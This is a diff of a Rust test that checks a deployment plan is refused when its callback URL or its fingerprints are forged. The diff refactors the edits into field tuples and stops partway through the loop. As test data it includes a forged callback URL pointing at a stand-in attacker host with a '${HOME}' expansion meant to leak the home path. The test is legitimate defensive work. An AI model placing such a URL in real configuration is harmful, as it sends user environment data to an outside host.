@@ -118,15 +118,17 @@ async fn an_endpoint_pointed_at_another_host_is_refused() {
 async fn a_callback_url_template_or_its_fingerprints_edited_are_refused() {
     let (s, good, host) = planned().await;
     let fingerprint = format!("hmac-sha256:{}", "0".repeat(64));
-    let edits: [Box<dyn Fn(&mut Value)>; 3] = [
-        Box::new(|app| {
-            app["desired"]["callback"]["url"] = json!("https://evil.example.com/?k=${HOME}");
-        }),
-        Box::new(|app| app["desired"]["url_fingerprint"] = json!(fingerprint)),
-        Box::new(|app| app["live"]["url_fingerprint"] = json!(fingerprint)),
+    let edits: [(&str, &str, Value); 3] = [
+        (
+            "desired",
+            "callback",
+            json!({"url": "https://evil.example.com/?k=${HOME}", "commands": []}),
+        ),
+        ("desired", "url_fingerprint", json!(fingerprint)),
+        ("live", "url_fingerprint", json!(fingerprint)),
     ];
-    for edit in edits {
-        let forged = forge(&good, first_app(|app| edit(app)), |plan| {
+    for (part, field, value) in edits {
+        let forged = forge(&good, first_app(|app| app[part][field] = value), |plan| {
             // The live state's own fingerprint, as a forger would recompute it.
             for app in &mut plan.apps {
                 app.live_fingerprint = app.live.fingerprint();
